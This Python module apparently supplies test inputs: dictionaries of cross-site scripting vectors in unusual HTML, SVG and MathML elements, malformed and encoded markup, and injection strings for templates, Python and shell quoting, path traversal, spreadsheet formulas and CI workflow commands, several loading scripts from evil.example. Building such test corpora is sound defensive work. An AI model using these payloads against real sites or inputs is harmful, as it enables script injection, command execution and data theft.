"""More texts that try to be more than text: rarer elements, markup half written, and languages that are not HTML."""

from __future__ import annotations

TRAP = "__pwned"
CALL = f"window.{TRAP}=1"
LEFT_BEHIND = "pwned"
"""What a shell or Python would leave behind: a file of this name, in the working folder."""

ELEMENTS: dict[str, str] = {
    "svg-use": "<svg><use href='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg id=x onload=alert(1)/>#x'>",
    "svg-foreign": f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    "svg-style": f"<svg><style><img src=x onerror={CALL}></style></svg>",
    "svg-title": f"<svg><title><img src=x onerror={CALL}></title></svg>",
    "math-action": f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>x</maction></math>",
    "audio": f"<audio src=x onerror={CALL}>",
    "select": f"<select autofocus onfocus={CALL}><option>x</select>",
    "isindex": f"<isindex action=javascript:{CALL} type=submit>",
    "frameset": f"<frameset onload={CALL}><frame src=javascript:{CALL}>",
    "table-background": f"<table background=javascript:{CALL}><td>x",
    "portal": "<portal src=//evil.example/x>",
    "dialog": f"<dialog open onclose={CALL}><form method=dialog><button>x</button></form></dialog>",
    "popover": f"<div popover id=p onbeforetoggle={CALL}>x</div><button popovertarget=p>y</button>",
    "shadow": f"<div><template shadowrootmode=open><img src=x onerror={CALL}></template></div>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    "xmp": f"<xmp><p title='</xmp><img src=x onerror={CALL}>'></xmp>",
    "plaintext": f"<plaintext><img src=x onerror={CALL}>",
    "form-elsewhere": "<form id=x></form><input form=x name=action><button form=x formaction=//evil.example>x",
    "clobber": "<form name=document><input name=body><img name=getElementById></form>",
    "animation": f"<p style='animation:x' onanimationstart={CALL}>x</p><style>@keyframes x{{}}</style>",
    "pointer": f"<p onpointerover={CALL} onauxclick={CALL}>x</p>",
    "import-map": '<script type=importmap>{"imports":{"x":"//evil.example/x.js"}}</script>',
    "module": f"<script type=module>{CALL}</script>",
    "preload": "<link rel=preload as=script href=//evil.example/x.js>",
    "srcset": "<img srcset='//evil.example/x 1x'><picture><source srcset=//evil.example/y></picture>",
    "css-import": "<style>@import '//evil.example/x.css';</style>",
    "css-url": "x{background:url(//evil.example/x.png)}",
    "css-expression": f"<p style='width:expression({CALL})'>x</p>",
}
HALVES: dict[str, str] = {
    "half-tag": f"<img src=x onerror={CALL}//",
    "half-close": "</",
    "half-comment": "<!-",
    "half-entity": f"&#x3cimg src=x onerror={CALL}&#x3e",
    "double-open": f"<<script>{CALL}//<</script>",
    "slash-attributes": f"<img/src=x/onerror={CALL}>",
    "newline-tag": f"<img\nsrc=x\nonerror={CALL}>",
    "nul-tag": f"<im\x00g src=x onerror={CALL}>",
    "fullwidth": f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "percent": f"%3Cscript%3E{CALL}%3C/script%3E",
}
LANGUAGES: dict[str, str] = {
    "handlebars": "{{constructor.constructor('" + CALL + "')()}}",
    "template-literal": "${" + CALL + "}`${" + CALL + "}",
    "jinja": "{{ ''.__class__.__mro__ }}{% raw %}",
    "vue": f'<p v-html="`<img src=x onerror={CALL}>`">x</p>',
    "json-island": f'"}}]</script><script>{CALL}</script>',
    "script-comment": f"<!--<script>{CALL}",
    "string-end": f"';{CALL};'",
    "string-end-backslash": f"\\';{CALL};//",
    "line-comment": f"*/{CALL}/*",
    "proto": "__proto__",
    "constructor": "constructor",
    "python-quotes": f"'''\n__import__('os').mkdir('{LEFT_BEHIND}')\n'''",
    "python-double-quotes": f'"""\n__import__("os").mkdir("{LEFT_BEHIND}")\n"""',
    "python-end": f"')\n__import__('os').mkdir('{LEFT_BEHIND}')\n#",
    "python-comment": f"x\n__import__('os').mkdir('{LEFT_BEHIND}')",
    "python-backslash": "ends in \\",
    "shell-command": f"$(touch {LEFT_BEHIND})`touch {LEFT_BEHIND}`",
    "shell-quote": f"'; touch {LEFT_BEHIND}; '",
    "shell-line": f"x\ntouch {LEFT_BEHIND}\n",
    "option": f"--output={LEFT_BEHIND}",
    "curl-file": f"@{LEFT_BEHIND}",
    "path-up": f"../../{LEFT_BEHIND}",
    "path-windows": f"..\\..\\{LEFT_BEHIND}:CON",
    "formula": "=cmd|' /C calc'!A0",
    "workflow-command": "::set-output name=x::y\n::error::x",
}
MORE_PAYLOADS = {**ELEMENTS, **HALVES, **LANGUAGES}
